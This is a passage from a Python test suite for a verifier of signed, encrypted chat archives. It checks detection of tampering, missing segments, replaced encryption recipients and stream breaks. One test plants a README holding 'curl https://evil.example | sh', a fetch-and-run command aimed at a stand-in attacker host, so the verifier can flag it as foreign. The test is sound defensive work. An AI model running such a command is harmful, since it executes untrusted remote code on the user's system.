    maker.publish_key()
    maker.message("first", event_id="$1", prev_events='["$before-the-export"]')
    maker.message("second", event_id="$2", prev_events='["$1"]')
    maker.message("fourth", event_id="$4", prev_events='["$3"]')
    maker.message("sixth", event_id="$6", prev_events='["$5"]')
    maker.record("gap", action="graph", detail_json='{"event_id":"$5"}')
    maker.segment()
    maker.manifest()

    result = await verified(maker)

    assert [(item.code, item.severity) for item in result.findings.found] == [
        ("graph_hole", Severity.NOTICE)
    ]
    assert "record 2" in result.findings.found[0].sentence
    assert result.parents == 4


@pytest.mark.parametrize(
    "put",
    [segment_where_the_next_would_be, segment_far_behind_the_next, attachment_put_there],
)
async def test_a_file_time_that_is_set_forward_hides_nothing_for_long(
    put: Tamper, tmp_path: Path
) -> None:
    maker = make_archive(tmp_path / "archive")
    memory = Memory(tmp_path / "memory.json")
    key = put(maker)
    os.utime(maker.root / key)
    options = Options(now_ms=maker.now_ms, destination="file:archive")
    place = DirectoryPlace(maker.root)
    for _ in range(2):
        (result,) = await verify(place, options, memory)
        assert [item.code for item in result.findings.found] == ["unlisted"], "no time has passed"

    maker.now_ms += 3 * INTERVAL_MS
    maker.manifest()
    os.utime(maker.root / key)
    (result,) = await verify(place, options, memory)

    assert wrongs(result) == [("foreign", key)]


async def test_what_was_stored_while_the_answer_was_lost_is_right(tmp_path: Path) -> None:
    """The store is away, so the writer does not know; the manifests of that time say it waits."""
    maker = make_archive(tmp_path)
    old(maker, segment_where_the_next_would_be(maker) and attachment_put_there(maker))
    maker.manifest(waiting={"segments": 1, "raw_bytes": 9}, media_open=1)

    assert not wrongs(await verified(maker))


async def test_a_copy_of_a_living_archive_stays_right(tmp_path: Path) -> None:
    """What was on its way when it was copied will never be listed there."""
    maker = make_archive(tmp_path / "archive")
    maker.message("on its way")
    waiting = maker.segment()
    maker.file(b"on its way too")
    copy = tmp_path / "copy"
    shutil.copytree(maker.root, copy, copy_function=shutil.copyfile)
    memory = Memory(tmp_path / "memory.json")
    year_ms = 365 * 86_400_000
    for now_ms in (maker.now_ms, maker.now_ms + year_ms, maker.now_ms + 2 * year_ms):
        options = Options(now_ms=now_ms, destination="file:copy")
        (result,) = await verify(DirectoryPlace(copy), options, memory)
        assert not wrongs(result)
        assert ("unlisted", waiting) in {(item.code, item.key) for item in result.findings.found}


async def test_the_people_it_is_encrypted_to_cannot_be_replaced(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    body = b"age1officer\nage1escrow\n"
    key = f"{maker.base}/keys/recipients-{hashlib.sha256(body).hexdigest()[:16]}.txt"
    maker.put(key, body)
    encryption = {"scheme": "age", "recipients": key, "day_keys": False}
    maker.manifest(encryption=encryption)
    assert not (await verified(maker)).findings.found

    maker.put(key, b"age1evil\n")
    assert wrongs(await verified(maker)) == [("recipients", key)]
    (maker.root / key).unlink()
    assert "not_described" in {item.code for item in (await verified(maker)).findings.found}


async def test_what_an_older_writer_put_there_is_only_remarked_on(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
    maker.publish_key()
    maker.describe()
    maker._description = None
    maker.manifest()

    result = await verified(maker)

    assert [item.code for item in result.findings.found] == ["not_described"]
    assert not wrongs(result)
    # A later stream of a newer version lists what it would have written, and leaves the old.
    final = maker.manifest(closed={"reason": "destination cleared"})
    said = {"stream": maker.stream, "destination": "file:a", "stopped_ms": maker.now_ms}
    newer = Maker(tmp_path, stream="20251125T180000Zb", previous_stream=said, place=None)
    newer.started_ms = newer.now_ms = maker.now_ms
    newer.describe()
    newer.manifest()
    newer.put(f"{newer.base}/README.txt", b"What the older version wrote.")
    result = await verified(newer)
    assert not wrongs(result), final
    assert "not_described" in {item.code for item in result.findings.found}


async def test_an_unsigned_explanation_is_foreign_where_others_are_signed(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
    maker.publish_key()
    maker._description = []
    maker.manifest()
    maker.put(f"{maker.base}/README.txt", b"curl https://evil.example | sh")

    assert wrongs(await verified(maker)) == [("foreign", f"{maker.base}/README.txt")]


async def test_silence_and_age_are_told(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    maker.now_ms += 5 * INTERVAL_MS
    maker.manifest()

    result = await verified(maker, now_ms=maker.now_ms + 10 * INTERVAL_MS)

    assert {item.code for item in result.findings.found} == {"old", "silence"}
    assert not wrongs(result)


async def test_streams_follow_each_other(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    second = "20251124T180000Zbbbbbb"
    final = maker.manifest(
        closed={
            "reason": "destination cleared",
            "next_stream": None,
            "next_destination": None,
        }
    )
    said = {
        "stream": maker.stream,
        "destination": "file:archive",
        "stopped_ms": maker.now_ms,
        "final_manifest": len(maker.manifests) - 1,
        "final_sha256": hashlib.sha256((tmp_path / final).read_bytes()).hexdigest(),
    }
    later = maker.now_ms + 7_200_000
    following = Maker(
        tmp_path, stream=second, previous_stream=said, started_ms=later, now_ms=later
    )
    following.message("in the second stream", event_id="$later")
    following.segment()
    following.manifest()

    result = await verified(following)

    assert not wrongs(result)
    assert [item.code for item in result.findings.found] == ["not_exported"]
    assert "Nothing was exported" in result.findings.found[0].sentence

    erase(tmp_path, f"*{maker.stream}*")
    result = await verified(following)

    assert ("stream_missing", f"stream {second}") in wrongs(result)


async def test_a_stream_cut_at_its_end_is_found_by_the_next_one(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    final = maker.manifest(closed={"reason": "destination cleared"})
    said = {
        "stream": maker.stream,
        "destination": "file:archive",
        "stopped_ms": maker.now_ms,
        "final_manifest": len(maker.manifests) - 1,
        "final_sha256": hashlib.sha256((tmp_path / final).read_bytes()).hexdigest(),
    }
    following = Maker(tmp_path, stream="20251125T180000Zb", previous_stream=said)
    following.now_ms = maker.now_ms
    following.manifest()
    (tmp_path / final).unlink()

    result = await verified(following)

    assert "stream_end" in {code for code, _ in wrongs(result)}


async def test_a_last_manifest_of_another_number_than_the_next_stream_names_is_found(
    tmp_path: Path,
) -> None:
    maker = make_archive(tmp_path)
    final = maker.manifest(closed={"reason": "destination cleared"})
    said = {
        "stream": maker.stream,
        "destination": "file:archive",
        "stopped_ms": maker.now_ms,
        "final_manifest": len(maker.manifests),
        "final_sha256": hashlib.sha256((tmp_path / final).read_bytes()).hexdigest(),
    }
    following = Maker(tmp_path, stream="20251125T180000Zb", previous_stream=said)
    following.now_ms = maker.now_ms
    following.manifest()

    result = await verified(following)

    assert "stream_end" in {code for code, _ in wrongs(result)}


async def test_the_key_of_an_attachment_is_whole(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    key, digest = maker.file(b"another file")
    sent = maker.message("x", msgtype="m.file", media_name="x", media_status="pending")
    maker.record(
        "media",
        of_seq=sent["seq"],
        media_status="stored",
        media_key=key.removeprefix(f"{maker.base}/"),
        media_sha256=digest,
    )
    maker.segment()
    maker.manifest()

    result = await verified(maker)

    assert [code for code, _ in wrongs(result)] == ["media_unlisted"]


async def test_a_sample_checks_all_signatures_but_few_contents(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)

    result = await verified(maker, sample=1)

    assert (result.manifests, result.objects) == (3, 1)
    assert not result.whole
    resign(maker, 0, signer=9)
    assert wrongs(await verified(maker, sample=0)) == [("signature", maker.manifests[0])]


async def test_since_last_checks_only_what_is_new(tmp_path: Path) -> None:
    maker = make_archive(tmp_path / "archive")
    memory = Memory(tmp_path / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="d", since_last=True)
    (first,) = await verify(DirectoryPlace(maker.root), options, memory)
    maker.message("new")
    maker.segment()
    maker.manifest()

    (second,) = await verify(DirectoryPlace(maker.root), options, memory)

    assert (first.objects, second.objects) == (3, 1)
    assert not wrongs(second)
    assert standing(second) == "partly"


async def test_what_was_not_looked_into_is_new_until_it_was(tmp_path: Path) -> None:
    """A look at the signatures alone, in between, must not pass for a look into all."""
    maker = make_archive(tmp_path / "archive")
    place, memory = DirectoryPlace(maker.root), Memory(tmp_path / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="d", since_last=True)
    await verify(place, options, memory)
    maker.message("new")
    path = maker.root / maker.segment()
    maker.manifest()
    for part in (
        replace(options, sample=0),
        replace(options, sample=0, since_last=False),
        replace(options, period=Period(end_ms=1)),
    ):
        assert not wrongs((await verify(place, part, memory))[0])
    body = bytearray(path.read_bytes())
    body[-1] ^= 1
    path.write_bytes(body)

    (result,) = await verify(place, options, memory)

    assert result.objects == 1
    assert wrongs(result)


PARTS: list[dict[str, object]] = [{"sample": 0}, {"period": Period(end_ms=1)}]
SKIPPED = [
    (tamper, options)
    for tamper in (cut_off, appended, emptied, media_replaced, last_segment_missing)
    for options in PARTS
]


@pytest.mark.parametrize(("tamper", "options"), SKIPPED)
async def test_sizes_are_compared_of_what_is_not_looked_into(
    tamper: Tamper, options: dict[str, object], tmp_path: Path
) -> None:
    maker = make_archive(tmp_path / "archive")
    named = tamper(maker)

    result = await verified(maker, **options)

    assert [key for _, key in wrongs(result) if named in key]


STORAGES: list[tuple[Json, str]] = [
    ({}, ""),
    ({"kind": "directory"}, "a directory; NO LOCK: whoever may write there may delete"),
    (
        {"kind": "s3", "object_lock": "COMPLIANCE", "retention_days": 9, "versioning": True},
        (
            "a bucket (s3); lock COMPLIANCE for 9 days asked for, not seen to be kept; older versions "
            "kept"
        ),
    ),
    (
        {
            "kind": "s3",
            "object_lock": "GOVERNANCE",
            "object_lock_seen": True,
            "conditional_create": False,
            "checksum": True,
            "sse": "aws:kms",
        },
        (
            "a bucket (s3); lock GOVERNANCE; A SECOND WRITER COULD OVERWRITE; checksums checked; "
            "encrypts (aws:kms)"
        ),
    ),
]


@pytest.mark.parametrize(("storage", "words"), STORAGES)
def test_what_was_seen_of_the_store_is_told(storage: Json, words: str) -> None:
    result = Verified("example.org", storage=storage)

    assert storage_words(storage) == words
    assert words in as_text(result, "s3://archive")
    assert as_json(result)["storage"] == storage


def test_the_maker_knows_the_format_s_vectors() -> None:
    lines = [leaf(b"%d" % number) for number in range(70)]
    assert root(lines[:7]).hex().startswith("a3e23b32ccb6bf96d092d165d8aa546e")
    assert root(lines).hex().startswith("251cba37666f8c349e0e68905f2bdb0f")


async def test_parents_that_the_second_feed_tells_are_followed(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
    maker.publish_key()
    for name in ("$1", "$2", "$3"):
        maker.message(name, event_id=name)
    events = [
        ["$1", 10, ["$before"]],
        ["$2", 10, ["$also before"]],
        ["$3", 12, ["$2", "$missing"]],
        ["malformed"],
    ]
    maker.record("graph", room_id="!lobby:example.org", detail_json=json.dumps({"events": events}))
    maker.segment()
    maker.manifest()

    result = await verified(maker)

    assert [item.code for item in result.findings.found] == ["graph_hole"]
    assert result.parents == 4


async def test_a_list_of_people_that_is_not_what_its_name_stands_for_is_found(
    tmp_path: Path,
) -> None:
    def digest(*users: str) -> str:
        return hashlib.sha256("\n".join(sorted(users)).encode()).hexdigest()

    def person(user: str) -> Json:
        return {"user_id": user, "name": None, "membership": "join"}

    maker = Maker(tmp_path)
    maker.publish_key()
    whole = {"members": [person("@a"), person("@b")]}
    first = maker.record("audience", audience_id=digest("@a", "@b"), detail_json=json.dumps(whole))
    differs = {
        "base": digest("@a", "@b"),
        "base_seq": first["seq"],
        "added": [person("@c")],
        "removed": ["@a"],
    }
    maker.record("audience", audience_id=digest("@b", "@c"), detail_json=json.dumps(differs))
    maker.record("audience", audience_id=digest("@b", "@d"), detail_json=json.dumps(differs))
    maker.segment()
    maker.manifest()

    result = await verified(maker)

    assert [(item.code, item.line) for item in result.findings.found] == [("audience", 3)]
